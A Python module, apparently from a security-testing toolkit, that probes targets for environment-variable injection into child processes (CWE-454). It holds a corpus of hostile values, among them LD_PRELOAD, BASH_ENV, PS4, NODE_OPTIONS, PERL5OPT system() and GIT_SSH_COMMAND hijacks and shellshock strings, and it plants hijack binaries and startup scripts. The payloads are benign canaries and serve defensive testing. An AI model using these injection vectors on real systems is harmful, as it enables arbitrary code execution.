"""T-ENV-001: environment injection into child processes (CWE-454)."""

from __future__ import annotations

import stat
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from attacks.base import AttackContext, AttackSpec, Target, register, take
from toolkit.core.model import Finding, Severity

LOADER_MARKS = ("cannot be preloaded", "cannot be loaded as audit interface", "ld.so:")


@dataclass(frozen=True)
class Probe:
    env: dict[str, str]
    tokens: tuple[str, ...]
    why: str


@dataclass
class Kit:
    """Hostile helpers in the toolkit's private folder: hijack binaries and startup scripts."""

    dir: Path
    product: str
    side: Path
    script: Path


def build_kit(ctx: AttackContext) -> Kit:
    rng = ctx.rng("env")
    a, b = rng.randint(1000, 9999), rng.randint(1000, 9999)
    folder = ctx.canaries.work / f"envkit-{ctx.canaries.token()}"
    (folder / "bin").mkdir(parents=True)
    (folder / "py").mkdir()
    side = folder / "side-effect"
    body = f"#!/bin/sh\necho toolkit-hijack $(({a}*{b}))\ntouch {side}\n"
    commands = set(ctx.contract.policy.allowed_commands) | {
        "ls",
        "cat",
        "echo",
        "git",
        "env",
    }
    for cmd in commands:
        if "/" not in cmd:
            exe = folder / "bin" / cmd
            exe.write_text(body)
            exe.chmod(exe.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    script = folder / "startup.sh"
    script.write_text(body)
    (folder / "py" / "sitecustomize.py").write_text(
        f"import pathlib\npathlib.Path({str(side)!r}).touch()\nprint('toolkit-hijack', {a}*{b})\n")
    (folder / "hook.js").write_text(
        f"require('fs').writeFileSync({str(side)!r}, '');console.log({a}*{b});\n"
    )
    return Kit(folder, str(a * b), side, script)


def corpus(kit: Kit) -> Iterator[Probe]:
    p, s, d = (kit.product,), str(kit.script), kit.dir
    yield Probe({"PATH": f"{d}/bin"}, p, "PATH hijack")
    yield Probe({"PATH": f"{d}/bin:/usr/bin:/bin"}, p, "PATH hijack, prepended")
    yield Probe({"LD_PRELOAD": f"{d}/libtoolkit-{kit.product[:4]}.so"}, LOADER_MARKS, "LD_PRELOAD")
    yield Probe({"LD_AUDIT": f"{d}/libaudit-{kit.product[:4]}.so"}, LOADER_MARKS, "LD_AUDIT")
    yield Probe({"BASH_ENV": s}, p, "BASH_ENV")
    yield Probe({"ENV": s}, p, "ENV (POSIX sh startup)")
    yield Probe({"PS4": f"$({s})", "SHELLOPTS": "xtrace"}, p, "PS4 with SHELLOPTS=xtrace")
    yield Probe({"PYTHONPATH": f"{d}/py"}, p, "PYTHONPATH sitecustomize")
    yield Probe(
        {"PYTHONSTARTUP": f"{d}/py/sitecustomize.py", "PYTHONINSPECT": "1"}, p, "PYTHONSTARTUP"
    )
    yield Probe({"NODE_OPTIONS": f"--require {d}/hook.js"}, p, "NODE_OPTIONS --require")
    yield Probe({"PERL5OPT": f"-Mstrict;system(q({s}))"}, p, "PERL5OPT")
    yield Probe({"RUBYOPT": f"-r{d}/hook.rb"}, p, "RUBYOPT")
    yield Probe({"GIT_SSH_COMMAND": s}, p, "GIT_SSH_COMMAND")
    yield Probe(
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager", "GIT_CONFIG_VALUE_0": s},
        p,
        "GIT_CONFIG_* injection",
    )
    yield Probe({"TZ": f"() {{ :;}}; {s}"}, p, "shellshock function value")
    yield Probe({"LANG": f"() {{ :;}}; {s}"}, p, "shellshock in an allowed name")


@register
class EnvironmentInjection:
    """Environment injection (CWE-454).

    Sends hostile environment variables to env surfaces (a mapping) and, on argv and
    command surfaces, through ``env X=... cmd``: LD_PRELOAD, LD_AUDIT, BASH_ENV, ENV,
    PS4 with SHELLOPTS, PYTHONPATH, PYTHONSTARTUP, NODE_OPTIONS, PERL5OPT, RUBYOPT,
    GIT_SSH_COMMAND, GIT_CONFIG_*, PATH hijack and ``() { :;}`` values. The hijack
    binaries and startup scripts live in the toolkit's private folder and print an
    arithmetic product and create a side-effect file; the dynamic loader's own refusal
    message is evidence for LD_PRELOAD/LD_AUDIT. Either must be absent from the baseline.
    """

    spec = AttackSpec("T-ENV-001", "env", "Environment injection into child processes", 454,
                      Severity.HIGH, ("env", "argv", "command"))

    def run(self, ctx: AttackContext, target: Target) -> Iterable[Finding]:
        cls = next((c for c in ("env", "argv", "command") if c in target.surface.classes), None)
        if cls is None:
            return
        kit = build_kit(ctx)
        cmd = _command(ctx)
        for probe in take(corpus(kit), ctx.limit):
            payload = _wrap(cls, probe.env, cmd)
            reply, found = ctx.probe(
                self.spec, target, cls, payload, probe.tokens, probe.why, "env"
            )
            if found:
                yield found
            elif kit.side.exists():
                yield ctx.finding(
                    self.spec,
                    target,
                    cls,
                    payload,
                    reply,
                    f"{probe.why}: hijack side-effect file was created",
                    f"env-side:{probe.why}",
                )
                kit.side.unlink()


def _command(ctx: AttackContext) -> str:
    allowed = ctx.contract.policy.allowed_commands
    return "ls" if "ls" in allowed or not allowed else str(allowed[0])


def _wrap(cls: str, env: dict[str, str], cmd: str) -> Any:
    if cls == "env":
        return env
    assignments = [f"{k}={v}" for k, v in env.items()]
    if cls == "argv":
        return ["env", *assignments, cmd]
    return " ".join(["env", *(_quote(a) for a in assignments), cmd])


def _quote(text: str) -> str:
    import shlex

    return shlex.quote(text)

